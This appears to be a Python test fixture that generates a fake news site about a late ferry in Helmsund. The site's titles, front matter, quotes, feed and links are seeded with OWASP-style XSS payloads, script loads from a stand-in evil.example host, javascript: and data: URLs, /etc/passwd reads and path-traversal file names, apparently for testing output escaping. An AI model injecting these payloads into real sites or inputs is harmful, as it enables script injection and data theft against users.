"""A site of articles that try to break out of their page, with the kinds of attacks that OWASP lists."""

from __future__ import annotations

# What each would run says which it was.
MARKUP = (
    "<script>alert('script')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('img')>",
    "<IMG SRC=`javascript:alert('backtick')`>",
    '<IMG """><SCRIPT>alert("quotes")</SCRIPT>">',
    "<<SCRIPT>alert('double');//<</SCRIPT>",
    "<svg/onload=alert('svg')>",
    "<svg><script xlink:href=data:,alert('svgscript')></script></svg>",
    "<body onload=alert('body')>",
    "<iframe src=\"javascript:alert('frame')\"></iframe>",
    "<math><mtext></table><img src=x onerror=alert('math')>",
    "<details open ontoggle=alert('toggle')>",
    "<a href=\"java&#09;script:alert('tab')\">a</a>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input autofocus onfocus=alert('focus')>",
    "</title><script>alert('title')</script>",
    "</script><script>alert('json')</script>",
    "--><script>alert('comment')</script>",
    "]]><script>alert('cdata')</script>",
    "'\"><img src=x onerror=alert('attribute')>",
    '" onmouseover="alert(\'hover\')" x="',
    "' autofocus onfocus='alert(1)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${alert('template')}",
    "&lt;script&gt;alert('entity')&lt;/script&gt;",
    "\u2028</script><script>alert('separator')</script>",
    "<img src=//evil.example/pixel.png>",
    "![x](https://evil.example/pixel.png)",
    "[x](javascript:alert('markdown'))",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<xss id=x tabindex=1 onfocusin=alert('xss')>",
    "\u202e<script>alert('bidi')</script>\u200b",
)
ADDRESSES = (
    "javascript:alert('address')",
    "JaVaScRiPt:alert('case')",
    " javascript:alert('space')",
    "java\tscript:alert('tab')",
    "data:text/html,<script>alert('data')</script>",
    "vbscript:msgbox('vb')",
    "//evil.example/",
    "https://evil.example/\"onmouseover=alert('mark')//",
    "https://evil.example/'><script>alert('path')</script>",
    "file:///etc/passwd",
)
_WEB = [address for address in ADDRESSES if address.startswith("https://")]
# Names that a file system, or another name, takes for something else.
NAMES = (
    "../../x",
    "CON",
    "nul.txt",
    "x" * 300,
    "😀😀",
    "🌊",
    "Case",
    "CASE",
    "case",
    "x",
    "x!",
    "x-2",
    "..",
    "a\u202eb",
)


def attacks() -> dict[str, str]:
    """The files of the site: each attack stands in a title, an outlet, an address, a quotation, a name and a text."""
    files = {}
    for number in range(len(MARKUP)):
        attack = [MARKUP[(number + shift) % len(MARKUP)] for shift in range(5)]
        front = {"title": f"Ferry {attack[0]} late", "outlet": attack[1], "url": _WEB[number % len(_WEB)]}
        files[f"content/markup-{number}.md"] = _article(front, attack[2:])
    for number, address in enumerate(ADDRESSES):
        files[f"content/address-{number}.md"] = _article({"title": "Ferry late", "url": address}, ["very"] * 3)
    for number, name in enumerate(NAMES):
        files[f"content/name-{number}.md"] = _article({"title": f"Ferry {name}", "outlet": name}, [name, name, name])
    page = "".join(f"<p>The master of the ferry said {attack} on Monday before the tugs came.</p>" for attack in MARKUP)
    files["content/page.html"] = (
        f"<html><head><title>{MARKUP[0]}</title></head><body onload=\"alert('page')\"><article><h1>Ferry late</h1>"
        f"<p>The ferry was late again on Monday, and nobody at the harbour knew the reason for it.</p>{page}</article>"
    )
    files["content/feed.xml"] = (
        "<rss version='2.0'><channel><title>&lt;script&gt;alert('feed')&lt;/script&gt;</title>"
        f"<item><title>Feed &lt;img src=x onerror=alert('item')&gt;</title><link>{ADDRESSES[0]}</link>"
        f"<description><![CDATA[{page.replace(']]>', '')}]]></description></item></channel></rss>"
    )
    return files


def _article(front: dict[str, str], attacks: list[str]) -> str:
    head = "".join(f"{key}: {_quoted(value)}\n" for key, value in front.items())
    return (
        f"---\n{head}---\n"
        f"The ferry of Helmsund was {attacks[0]} late on Monday, with 140 passengers on board, its master said.\n\n"
        f"“{attacks[1]} is what I saw,” Kaisa {attacks[2]} Aalto said on the quay in Helmsund on Monday.\n\n"
        f"“Nobody was hurt by it,” said {attacks[2]}, who runs the harbour of Helmsund and its {attacks[0]} quay.\n"
    )


def _quoted(value: str) -> str:
    escaped = value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\u2028", "\\u2028")
    return f'"{escaped}"'
